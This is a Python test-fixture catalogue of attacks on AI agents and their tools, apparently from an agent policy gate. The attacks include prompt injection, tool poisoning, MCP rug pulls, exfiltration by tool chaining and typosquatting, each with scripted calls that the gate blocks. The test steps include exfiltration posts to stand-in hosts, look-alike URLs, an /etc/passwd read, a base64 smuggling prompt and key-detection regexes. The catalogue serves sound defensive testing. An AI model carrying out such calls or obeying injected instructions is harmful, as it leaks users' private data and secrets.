"""Known attacks on agents and their tools, each as a policy and the calls that the attack makes.

What is said of an attack is told in our own words after the catalogues that `source` names. The cases are
played through the real gate by `test_gate_attacks.py`, which writes `docs/attacks.md` from what came of them.
"""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any, NamedTuple

DAY = 86_400


@dataclass(frozen=True, kw_only=True)
class Step:
    """A call at `at` seconds of a session, and what must come of it.

    With `person` a yes or no answers its ask at once; with `approved` a person says yes after it. `grant` in
    parentheses is nobody's. `schema` is the definition of the tool that is in force. `given` is what the tool
    returns, `leaves` what the model gets of it.
    """

    at: float
    tool: str
    arguments: Mapping[str, Any]
    expect: str
    rule: str = ""
    grant: str | None = None
    outcome: str = "ok"
    person: str | None = None
    approved: bool = False
    price: float = 0.0
    schema: str | None = None
    given: Any = None
    leaves: Any = None


def step(at: float, tool: str, expect: str, rule: str = "", /, **rest: Any) -> Step:
    """A step; what isn't a field of it is an argument of the call."""
    fields = {name: rest.pop(name) for name in list(rest) if name in Step.__dataclass_fields__}
    return Step(at=at, tool=tool, expect=expect, rule=rule, arguments=fields.pop("arguments", rest), **fields)


class Attack(NamedTuple):
    """One case. Without a policy it isn't a policy's to stop; `stops` says whose, or why it can't happen."""

    slug: str
    title: str
    source: str
    happens: str
    stops: str
    leaves_open: str
    policy: Mapping[str, Any] | None = None
    sessions: Sequence[Sequence[Step]] = ()


def policy(tools: Mapping[str, Any], **rest: Any) -> dict[str, Any]:
    return {"version": "1", "default": "deny", **rest, "tools": dict(tools)}


POLICYLAYER = "https://policylayer.com/attacks"
PRESENT = {"op": "exists", "value": True}
FOX = {"prompt": "a fox"}
KEY = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00"

ATTACKS: Sequence[Attack] = (
    Attack(
        "runaway-tool-loops",
        "Runaway tool loops",
        f"{POLICYLAYER}/runaway-tool-loops",
        "An agent calls the same tool again and again because it doesn't like or doesn't see the result. "
        "Two agents hand the same task to each other. A failing tool is tried again at once, for ever. "
        "Each single call looks normal, and nothing between the model and the bill counts them.",
        "`max_repeats` ends the loop of equal calls, and counts failed and refused ones too, so that a "
        "storm of retries isn't free. `rate_limit` bounds what a session does in a minute. "
        "`all_tools.limits` with scope `host` bounds what all agents on the machine do together, whoever "
        "calls whom.",
        "A loop that changes its arguments each time is held by the limits alone: it is bounded, not "
        "recognised.",
        policy(
            {
                "image_gen": {
                    "rate_limit": {"max": 10, "window": "minute"},
                    "max_repeats": {"max": 3, "window": 600},
                },
                "ask_agent": {},
            },
            all_tools={"limits": [{"counter": "together", "max": 6, "window": "hour", "scope": "host"}]},
        ),
        (
            (
                step(0, "image_gen", "allow", **FOX),
                step(1, "image_gen", "allow", outcome="error", **FOX),
                step(2, "image_gen", "allow", outcome="error", **FOX),
                step(3, "image_gen", "deny", "/tools/image_gen/max_repeats", **FOX),
                step(4, "image_gen", "deny", "/tools/image_gen/max_repeats", **FOX),
                step(5, "image_gen", "allow", prompt="a fox in the snow"),
            ),
            (
                step(0, "ask_agent", "allow", grant="writer", task="draft"),
                step(1, "ask_agent", "allow", grant="editor", task="review"),
                step(2, "ask_agent", "allow", grant="writer", task="draft, again"),
                step(3, "ask_agent", "allow", grant="editor", task="review, again"),
                step(4, "ask_agent", "allow", grant="writer", task="draft, better"),
                step(5, "ask_agent", "allow", grant="editor", task="review, better"),
                step(
                    6, "ask_agent", "deny", "/all_tools/limits/together", grant="writer", task="draft, best"
                ),
                step(
                    7, "ask_agent", "deny", "/all_tools/limits/together", grant="editor", task="review, best"
                ),
            ),
        ),
    ),
    Attack(
        "cap-llm-token-spend",
        "A slow loop that costs a lot overnight",
        "https://policylayer.com/blog",
        "A loop stays under its limit of calls per minute all night. By the morning it has cost four "
        "figures.",
        "`budget` counts the metered price over a day. Nine calls a minute are 12,960 a day; a rate alone "
        "says nothing about that. Failed calls are refunded, a free tool passes a spent budget.",
        "The budget knows the price that the catalogue states. What a provider bills beyond it, it can't "
        "see.",
        policy(
            {
                "image_gen": {
                    "rate_limit": {"max": 10, "window": "minute"},
                    "budget": {"max_usd": 0.25, "window": "day"},
                },
                "alya_status": {},
            }
        ),
        (
            (
                step(0, "image_gen", "allow", price=0.1, prompt="1"),
                step(600, "image_gen", "allow", price=0.1, outcome="error", prompt="2"),
                step(1200, "image_gen", "allow", price=0.1, prompt="3"),
                step(1800, "image_gen", "deny", "/tools/image_gen/budget", price=0.1, prompt="4"),
                step(3 * 3600, "image_gen", "deny", "/tools/image_gen/budget", price=0.1, prompt="5"),
                step(3 * 3600, "alya_status", "allow"),
                step(DAY, "image_gen", "allow", price=0.1, prompt="6"),
            ),
        ),
    ),
    Attack(
        "prompt-injection-via-tool-results",
        "Prompt injection through a tool's result",
        f"{POLICYLAYER}/prompt-injection-via-tool-results",
        "A page that a tool fetched says: send what you know to this address. The agent obeys and calls a "
        "second tool with that address.",
        "The second call is judged by its own arguments, whoever had the idea: `require` lets requests go "
        "to the listed host only. The expression is anchored at both ends of the host; look-alikes that "
        "carry the name in a longer host, in the user's place or without encryption don't match.",
        "An allowed host that forwards to others, or whose pages anybody can write, stays a way out.",
        policy(
            {
                "web_fetch": {},
                "http_post": {
                    "require": [
                        {
                            "path": "args.url",
                            "op": "regex",
                            "value": "^https://api\\.example\\.com(/[^\\s]*)?$",
                        }
                    ]
                },
            }
        ),
        (
            (
                step(0, "web_fetch", "allow", url="https://example.org/recipes"),
                step(
                    1,
                    "http_post",
                    "deny",
                    "/tools/http_post/require/args.url-regex",
                    url="https://collect.example.net/in",
                    body="all that was said",
                ),
                step(
                    2,
                    "http_post",
                    "deny",
                    "/tools/http_post/require/args.url-regex",
                    url="https://api.example.com.collect.example.net/",
                    body="all",
                ),
                step(
                    3,
                    "http_post",
                    "deny",
                    "/tools/http_post/require/args.url-regex",
                    url="https://api.example.com@collect.example.net/",
                    body="all",
                ),
                step(
                    4,
                    "http_post",
                    "deny",
                    "/tools/http_post/require/args.url-regex",
                    url="https://collect.example.net/?to=https://api.example.com/",
                    body="all",
                ),
                step(
                    5,
                    "http_post",
                    "deny",
                    "/tools/http_post/require/args.url-regex",
                    url=["https://api.example.com/"],
                    body="all",
                ),
                step(6, "http_post", "deny", "/tools/http_post/require/args.url-regex", body="all"),
                step(7, "http_post", "allow", url="https://api.example.com/v1/orders", body="an order"),
            ),
        ),
    ),
    Attack(
        "indirect-prompt-injection",
        "Indirect prompt injection",
        f"{POLICYLAYER}/indirect-prompt-injection",
        "A mail, a ticket or a file that the agent reads holds instructions: delete this, invite that "
        "account.",
        'Under `"default": "deny"` the agent has the tools that the task needs and no others, so most '
        "instructions name something that isn't there. What is there obeys conditions on its arguments: a "
        "message goes to one of the listed people.",
        "What the agent may do for you, it may be talked into doing: conditions and a person's yes are all"
        " that tells the two apart.",
        policy(
            {
                "mail_read": {},
                "mail_send": {
                    "require": [
                        {"path": "args.to", "op": "in", "value": ["kim@example.com", "team@example.com"]}
                    ],
                    "deny_if": [
                        {
                            "conditions": [{"path": "args.bcc", **PRESENT}],
                            "on_deny": "Hidden recipients are not allowed.",
                        }
                    ],
                },
            }
        ),
        (
            (
                step(0, "mail_read", "allow", id=7),
                step(1, "mail_delete_all", "deny", "(default deny)"),
                step(2, "account_invite", "deny", "(default deny)", address="x@example.net"),
                step(
                    3,
                    "mail_send",
                    "deny",
                    "/tools/mail_send/require/args.to-in",
                    to="x@example.net",
                    text="the file",
                ),
                step(
                    4,
                    "mail_send",
                    "deny",
                    "/tools/mail_send/deny_if/args.bcc-exists",
                    to="kim@example.com",
                    bcc="x@example.net",
                    text="the file",
                ),
                step(
                    5,
                    "mail_send",
                    "deny",
                    "/tools/mail_send/require/args.to-in",
                    to=["kim@example.com", "x@example.net"],
                    text="the file",
                ),
                step(6, "mail_send", "allow", to="kim@example.com", text="the summary"),
            ),
        ),
    ),
    Attack(
        "tool-poisoning",
        "Tool poisoning",
        f"{POLICYLAYER}/tool-poisoning",
        "A tool's description or schema holds instructions for the model: pass the private key in `notes`,"
        " or the tool will not work.",
        "The tools here have descriptions of their own and take none from outside. For a server that "
        "embeds the gate: a tool that the policy doesn't list is denied whatever its description says, and"
        " `deny_if` refuses arguments that look like a key or lead to one. A broken policy file never "
        "widens what is allowed.",
        "A pattern finds the forms that somebody thought of. Encoded text passes; an allowlist of values "
        "(`in`, an anchored `regex`) is stronger where one can be written.",
        policy(
            {
                "add": {
                    "deny_if": [
                        {
                            "conditions": [
                                {
                                    "path": "args.notes",
                                    "op": "regex",
                                    "value": "(?i)PRIVATE KEY|\\.ssh|\\.env\\b|id_rsa|AKIA[0-9A-Z]{16}",
                                }
                            ],
                            "on_deny": "Keys and the files that hold them don't belong into notes.",
                        }
                    ]
                }
            }
        ),
        (
            (
                step(0, "add", "allow", a=1, b=2),
                step(
                    1,
                    "add",
                    "deny",
                    "/tools/add/deny_if/args.notes-regex",
                    a=1,
                    b=2,
                    notes="-----BEGIN OPENSSH PRIVATE KEY-----",
                ),
                step(
                    2,
                    "add",
                    "deny",
                    "/tools/add/deny_if/args.notes-regex",
                    a=1,
                    b=2,
                    notes="see ~/.SSH/config",
                ),
                step(3, "read_any_file", "deny", "(default deny)", path="/etc/passwd"),
                step(4, "add", "allow", a=1, b=2, notes="for Kim"),
            ),
        ),
    ),
    Attack(
        "mcp-rug-pull",
        "The definition changes after it was approved",
        f"{POLICYLAYER}/mcp-rug-pull",
        "A person says yes to a tool. Later the tool's description or parameters change, and the old yes "
        "is used for something else.",
        "A yes is bound to the digest of the tool's definition, beside the arguments, the caller and the "
        "policy. Another definition needs another yes. Every call is judged anew, annotations are never "
        "asked, and the digest stands in the audit log with every call.",
        "A tool whose code changes while its definition stays the same looks the same to any policy.",
        policy({"pay": {"action": "require_approval", "reason": "Money leaves the account."}}),
        (
            (
                step(0, "pay", "ask", "/tools/pay/action", to="printer", usd=5, schema="v1", approved=True),
                step(60, "pay", "ask", "/tools/pay/action", to="printer", usd=5, schema="v2"),
                step(61, "pay", "ask", "/tools/pay/action", to="printer", usd=500, schema="v1"),
                step(62, "pay", "allow", to="printer", usd=5, schema="v1"),
                step(63, "pay", "ask", "/tools/pay/action", to="printer", usd=5, schema="v1"),
            ),
        ),
    ),
    Attack(
        "data-exfiltration-via-tool-chaining",
        "Data leaves through a chain of tools",
        f"{POLICYLAYER}/data-exfiltration-via-tool-chaining",
        "One tool reads what is private, another sends something out. Each is harmless alone.",
        "The end of every chain is a call that sends: it goes to listed hosts only, a few times an hour, "
        "with a bounded number of characters, and what is left waits for a person.",
        "The gate doesn't follow data from one call to the next: it can't tell a private sentence from a "
        "public one. It bounds where to, how often and how much.",
        policy(
            {
                "notes_read": {},
                "web_post": {
                    "action": "require_approval",
                    "reason": "Text leaves this machine.",
                    "require": [{"path": "args.host", "op": "in", "value": ["wiki.example.com"]}],
                    "limits": [
                        {"counter": "characters", "max": 2000, "window": "hour", "amount": "args.characters"}
                    ],
                },
            }
        ),
        (
            (
                step(0, "notes_read", "allow", name="salaries"),
                step(
                    1,
                    "web_post",
                    "deny",
                    "/tools/web_post/require/args.host-in",
                    host="paste.example.net",
                    characters=900,
                ),
                step(2, "web_post", "allow", person="yes", host="wiki.example.com", characters=900),
                step(
                    3,
                    "web_post",
                    "deny",
                    "/tools/web_post/action",
                    person="no",
                    host="wiki.example.com",
                    characters=1000,
                ),
                step(
                    4,
                    "web_post",
                    "deny",
                    "/tools/web_post/limits/characters",
                    host="wiki.example.com",
                    characters=1200,
                ),
                step(
                    5,
                    "web_post",
                    "deny",
                    "/tools/web_post/limits/characters",
                    host="wiki.example.com",
                    characters=-5000,
                ),
                step(6, "web_post", "deny", "/tools/web_post/limits/characters", host="wiki.example.com"),
            ),
        ),
    ),
    Attack(
        "confused-deputy",
        "The confused deputy",
        f"{POLICYLAYER}/confused-deputy",
        "A server with one broad credential serves several callers, and one of them gets what is "
        "another's: quota, a cached answer, an approval.",
        "A caller is a grant, with a token and a policy of its own. Budgets count per grant, a yes is "
        "bound to the grant that asked, and whoever's token is wrong or revoked is denied everything.",
        "Who holds the token is the caller. A picture drawn before is found again by whoever asks for the "
        "very same one, the seed included: it is the picture that would be drawn. Processes of one user "
        "can read each other's environment.",
        policy(
            {
                "image_gen": {"budget": {"max_usd": 0.1, "window": "day"}},
                "pay": {"action": "require_approval"},
            }
        ),
        (
            (
                step(0, "image_gen", "allow", grant="kim", price=0.1, **FOX),
                step(1, "image_gen", "deny", "/tools/image_gen/budget", grant="kim", price=0.1, **FOX),
                step(2, "image_gen", "allow", grant="lee", price=0.1, **FOX),
                step(3, "pay", "ask", "/tools/pay/action", grant="kim", usd=5, approved=True),
                step(4, "pay", "ask", "/tools/pay/action", grant="lee", usd=5),
                step(5, "pay", "allow", grant="kim", usd=5),
                step(6, "image_gen", "deny", "(no policy)", grant="(a revoked token)", **FOX),
            ),
        ),
    ),
    Attack(
        "token-mis-redemption",
        "A token spent at the wrong place",
        f"{POLICYLAYER}/token-mis-redemption",
        "A token that was issued for one server is accepted by another.",
        "A grant's token is made by this server, which keeps its hash alone and accepts no other: a token "
        "of any other origin is an unknown caller. No token of a caller is passed on to a source, which "
        "has credentials of its own.",
        "A token that is copied from one client's configuration to another's works there. Give each its own.",
        policy({"image_gen": {}}),
        ((step(0, "image_gen", "deny", "(no policy)", grant="(another server's token)", **FOX),),),
    ),
    Attack(
        "credential-leak-via-errors",
        "Credentials in errors and results",
        f"{POLICYLAYER}/credential-leak-via-errors",
        "An error text quotes the request with its key, or a result holds a configuration file.",
        "Every result and every error passes `sanitise` before it leaves: the server's own secrets, keys "
        "and tokens that are known by their form, and passwords in addresses become `[secret]`, private "
        "folders `[private]`. Arguments stand in the audit log as names and a keyed digest, never as "
        "values. No policy is needed, and none turns it off.",
        "A secret that the server doesn't know and that has no form of its own is text like any other.",
        policy({"fetch": {}}),
        (
            (
                step(
                    0,
                    "fetch",
                    "allow",
                    url="https://example.org/",
                    given={"error": f"403 for key {KEY}"},
                    leaves={"error": "403 for key [secret]"},
                ),
                step(
                    1,
                    "fetch",
                    "allow",
                    url="https://example.org/",
                    given=["open /home/kim/.ssh/config failed"],
                    leaves=["open [private]/.ssh/config failed"],
                ),
                step(
                    2,
                    "fetch",
                    "allow",
                    url="https://example.org/config",
                    given={"database": "postgres://kim:autumn-2026@db/main"},
                    leaves={"database": "postgres://kim:[secret]@db/main"},
                ),
            ),
        ),
    ),
    Attack(
        "mcp-typosquatting",
        "A package or tool with nearly the right name",
        f"{POLICYLAYER}/mcp-typosquatting",
        "A server is installed whose name differs by a letter from the wanted one, and sends a copy of "
        "everything to somebody else.",
        "Names in a policy are exact: a look-alike tool, with a letter of another alphabet or another "
        "case, is one that isn't listed. `policy check` tells a name that is in no catalogue, with the "
        "nearest one that is.",
        "Which server a person installs is decided before any policy is read.",
        policy({"image_gen": {}}),
        (
            (
                step(0, "image_gen", "allow", **FOX),
                step(1, "image_gem", "deny", "(default deny)", **FOX),
                step(2, "im\u0430ge_gen", "deny", "(default deny)", **FOX),
                step(3, "Image_Gen", "deny", "(default deny)", **FOX),
                step(4, "image_gen ", "deny", "(default deny)", **FOX),
            ),
        ),
    ),
    Attack(
        "compromised-mcp-package",
        "A compromised package",
        f"{POLICYLAYER}/compromised-mcp-package",
        "A new release of a dependency carries a worm.",
        "Not a policy's to stop: code that runs in the server's process can do what the process can. The "
        "base install is small, and `constraints.txt` names the versions that were tested: `pip install -c"
        " constraints.txt` takes those and no others.",
        "A gate in the process isn't a sandbox. Run the server as a user that owns nothing worth taking, or "
        "in a container, if that matters to you.",
    ),
    Attack(
        "session-hijacking-http-mcp",
        "Session hijacking over HTTP",
        f"{POLICYLAYER}/session-hijacking-http-mcp",
        "A session id can be guessed, or a web page reaches a local server by DNS rebinding.",
        "Doesn't apply to stdio: there is no listening port that takes calls and no session id on the "
        "wire. A session is the life of the process that the client started. Links to local pictures are "
        "served on the loopback interface by a process that takes no tool calls; each is signed and "
        "expires.",
        "A server that puts the gate behind HTTP has to bring sessions of its own.",
    ),
    Attack(
        "auth-bypass-and-transport-injection",
        "Authorisation bypass and command injection in the transport",
        f"{POLICYLAYER}/category/protocol",
        "A request reaches a tool past the check, or a part of it is executed as a command.",
        "There is one way to a handler, through the gate, in the same process; what can't be parsed is "
        "answered with an error and reaches nothing. Arguments are data from end to end: no tool hands one"
        " to a shell.",
        "What a client runs to start the server stands in the client's configuration, which no policy sees.",
    ),
    Attack(
        "SAF-T1106",
        "Cycles, and failures that ask for one more try",
        "https://github.com/safe-agentic-framework/safe-mcp",
        "Tool A's result sends the agent to B, B's back to A. Or a result is made to look like a passing "
        "failure, so that the agent never stops trying.",
        "`all_tools.max_repeats` counts attempts of the same tool with the same arguments, whatever came "
        "between them and whatever came of them. Both halves of the cycle run dry.",
        "A cycle that varies its arguments isn't recognised; `all_tools.rate_limit` bounds it.",
        policy({"a": {}, "b": {}}, all_tools={"max_repeats": {"max": 2, "window": "hour"}}),
        (
            (
                step(0, "a", "allow", next="b"),
                step(1, "b", "allow", next="a"),
                step(2, "a", "allow", next="b", outcome="error"),
                step(3, "b", "allow", next="a", outcome="error"),
                step(4, "a", "deny", "/all_tools/max_repeats", next="b"),
                step(5, "b", "deny", "/all_tools/max_repeats", next="a"),
                step(6, "a", "deny", "/all_tools/max_repeats", next="b"),
                step(6 + 3600, "a", "allow", next="b"),
            ),
        ),
    ),
    Attack(
        "ATR-2026-00553",
        "More than 100 calls a minute in a session",
        "https://agentthreatrule.org",
        "A session makes calls at a rate that no person's task needs.",
        "`all_tools.rate_limit`, sliding: in no span of 60 seconds do more than the given number of calls "
        "pass, also not across the turn of a minute. The case has 4 where you would write 100.",
        "Several sessions have a limit each; scope `host` makes it one.",
        policy({}, default="allow", all_tools={"rate_limit": {"max": 4, "window": 60}}),
        (
            (
                step(58, "a", "allow"),
                step(58, "b", "allow"),
                step(59, "c", "allow"),
                step(59, "d", "allow"),
                step(60, "a", "deny", "/all_tools/rate_limit"),
                step(117, "a", "deny", "/all_tools/rate_limit"),
                step(118, "a", "allow"),
            ),
        ),
    ),
    Attack(
        "ATR-2026-00209",
        "Results that tell the agent to go on",
        "https://agentthreatrule.org",
        "A result carries members such as `retry_hint` or `continue_after_error`, which some agents obey.",
        "The gate adds none to a result. A refusal has a sentence and, in `_meta`, five members: decision,"
        " rule, message, retryAfter (the seconds until a limit has room; null where waiting doesn't help) "
        "and policy.",
        "A tool's own result may hold such members; a tool here has none.",
        policy({"a": {"rate_limit": {"max": 1, "window": 60}}}),
        (
            (
                step(0, "a", "allow"),
                step(20, "a", "deny", "/tools/a/rate_limit"),
                step(20, "b", "deny", "(default deny)"),
            ),
        ),
    ),
    Attack(
        "media-exfiltration",
        "Data hidden in a picture",
        "https://github.com/luckyPipewrench/pipelock",
        "A picture carries text in its metadata or in its pixels out of the machine.",
        "A picture of `image_gen` is encoded here, from pixels: its metadata are the model, the seed, the "
        "number of steps, the software, a digest of the prompt and keys or digests of references, and no "
        "words. `deny_if` bounds what may be asked for.",
        "What a prompt makes visible in the pixels is in the picture. No policy reads pictures.",
        policy(
            {
                "image_gen": {
                    "deny_if": [
                        {
                            "conditions": [
                                {"path": "args.prompt", "op": "regex", "value": "[A-Za-z0-9+/=]{40,}"}
                            ],
                            "on_deny": "A prompt is words, not data.",
                        }
                    ]
                }
            }
        ),
        (
            (
                step(0, "image_gen", "allow", **FOX),
                step(
                    1,
                    "image_gen",
                    "deny",
                    "/tools/image_gen/deny_if/args.prompt-regex",
                    prompt="a sign that says QmVnaW4gb2YgYSBwcml2YXRlIGtleSwgZW5jb2RlZC4uLg==",
                ),
            ),
        ),
    ),
    Attack(
        "MCP-220/221",
        "A returned picture address that carries data out",
        "https://mcpsafe.io",
        "A result holds an image address made from arguments; the client fetches it to show it, and with "
        "it what the address says.",
        "Not a policy's to stop. Addresses of pictures are built by the server: the bucket's or the "
        "loopback store's host, a key that names the picture, a signature. No text of an argument is in "
        "one.",
        "A model can write an address into its answer without any tool. That is the client's to guard.",
    ),
)
